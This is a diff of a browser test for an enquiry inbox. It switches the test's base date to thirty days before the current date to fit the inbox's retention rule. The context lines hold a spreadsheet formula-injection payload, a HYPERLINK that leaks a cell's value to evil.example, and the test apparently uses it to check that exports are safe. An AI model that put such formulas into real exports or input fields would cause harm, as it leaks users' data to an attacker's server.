@@ -16,12 +16,14 @@ from conftest import PHONE, choose_option, save_screenshot, sign_in, store_app
 
 from heza_geo import i18n
 from heza_geo.enquiries import Enquiry
+from heza_geo.ui.inbox import when
 
 pytest.importorskip("playwright")
 from playwright.sync_api import Page, expect
 
 PASSWORD = "mật-khẩu-thử-nghiệm-2026"
-T0 = datetime(2026, 5, 4, 9, 0, tzinfo=UTC)
+#: a month ago (the inbox deletes enquiries past their retention when it opens: a fixed date would age out)
+T0 = datetime.now(UTC).replace(hour=9, minute=0, second=0, microsecond=0) - timedelta(days=30)
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"site plan")'
 KIM = Enquiry(uuid="0b8f1f8e-0000-4000-8000-0000000000a1", name="Kim Min-jun", company="Hanbit Electronics",
               country="KR", email="kim@hanbit.example", sector="electronics", land_ha=12.0, timeframe="6_to_12_months",
@@ -70,7 +72,7 @@ def test_an_officer_moves_an_enquiry_to_contacted_and_downloads_the_inbox_with_f
     _open_inbox(desk, url)
     panel = _panel(desk)
     expect(panel).to_contain_text(en("inbox.count", n=2, status=en("enquiry.status.new")))
-    label = f"4 May 2026 09:00 · {KIM.name} · {KIM.company}"
+    label = f"{when(T0, 'en')} · {KIM.name} · {KIM.company}"
     choose_option(desk, panel.get_by_role("combobox", name=en("inbox.pick"), exact=True), label)
     expect(panel).to_contain_text(f"{en('enquiry.field.message')}:", timeout=RERUN)
     expect(panel).to_contain_text(KIM.message, timeout=RERUN)
